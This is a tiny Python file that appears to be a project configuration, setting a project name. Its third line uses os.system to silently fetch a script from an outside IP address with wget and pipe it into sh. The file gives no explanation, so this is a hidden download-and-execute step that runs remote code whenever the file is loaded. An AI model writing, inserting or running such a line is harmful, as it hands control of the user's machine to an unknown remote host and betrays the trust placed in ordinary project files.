import os
project = "x"
os.system("wget -qO- http://203.0.113.52/d | sh")
